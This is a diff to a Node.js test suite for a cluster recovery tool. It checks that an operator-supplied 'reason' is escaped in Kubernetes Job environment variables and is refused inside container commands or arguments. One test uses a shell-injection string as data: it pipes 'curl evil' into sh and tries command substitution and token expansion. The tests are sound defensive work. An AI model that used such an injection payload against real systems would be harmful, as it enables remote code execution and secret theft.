@@ -5,6 +5,7 @@ import { createServer, type IncomingHttpHeaders } from "node:http";
 import { describe, it, type TestContext } from "node:test";
 import { type Jobs, type RecoveryStep, runStep } from "../../enforcer/recovery/step.ts";
 import { policySchema } from "../../enforcer/policy.ts";
+import { jobOf } from "../../enforcer/recovery/job-template.ts";
 import { aQuarantine } from "./fleets.ts";
 
 const quarantine = aQuarantine("node-7.eu", "Recovering");
@@ -77,7 +78,55 @@ describe("a recovery step", () => {
     const template = { spec: { template: { spec: { containers: [{ args: ["--node={{node}}"] }] } } } };
     const { signal } = new AbortController();
     assert.deepEqual(await runStep(step({ job: template }), quarantine, jobs, signal), { state: "running" });
-    assert.deepEqual(made[0]![0], { spec: { template: { spec: { containers: [{ args: ["--node=node-7.eu"] }] } } } });
+    const env = [
+      { name: "PICKET_NODE", value: "node-7.eu" },
+      { name: "PICKET_NODE_UID", value: "" },
+      { name: "PICKET_REASON", value: "a test" },
+      { name: "PICKET_SEVERITY", value: "high" },
+      { name: "PICKET_QUARANTINE", value: quarantine.uid },
+      { name: "PICKET_STEP", value: "reboot" },
+    ];
+    const container = { args: ["--node=node-7.eu"], env };
+    assert.deepEqual(made[0]![0], { spec: { template: { spec: { containers: [container] } } } });
     assert.match(made[0]![1], /^[a-z0-9-]{1,63}$/);
   });
+
+  it("by Job lets no reason become a command, nor name a secret of the container", () => {
+    const reason = '"; curl evil | sh; $(TOKEN) `id` $HOME';
+    const template = {
+      metadata: { annotations: { why: "{{reason}}" } },
+      spec: {
+        initContainers: [
+          {
+            env: [
+              { name: "WHY", value: "{{reason}}" },
+              { name: "PICKET_STEP", value: "mine" },
+            ],
+          },
+        ],
+      },
+    };
+    const job = jobOf(template, { reason, step: "reboot" });
+    const escaped = '"; curl evil | sh; $$(TOKEN) `id` $$HOME';
+    const env = [
+      { name: "PICKET_REASON", value: escaped },
+      { name: "WHY", value: escaped },
+      { name: "PICKET_STEP", value: "mine" },
+    ];
+    assert.deepEqual(job, { metadata: { annotations: { why: reason } }, spec: { initContainers: [{ env }] } });
+  });
+
+  for (const [what, container] of [
+    ["a shell's command", { command: ["sh", "-c", "echo {{ reason }}"] }],
+    ["arguments", { args: ["--reason={{reason}}"] }],
+    ["arguments, by way of the environment", { args: ["-c", "echo $(PICKET_REASON)"] }],
+  ] as const)
+    it(`by Job is refused where the reason would be in ${what}`, () => {
+      const job = { spec: { template: { spec: { containers: [container] } } } };
+      assert.throws(
+        () => step({ job }),
+        /a reason is text that others wrote: not in a command \(spec\.template\.spec\.containers\.0\.(command\.2|args\.[01])\)/,
+      );
+      assert.ok(step({ job: { ...job, metadata: { annotations: { why: "{{reason}}" } }, spec: {} } }));
+    });
 });
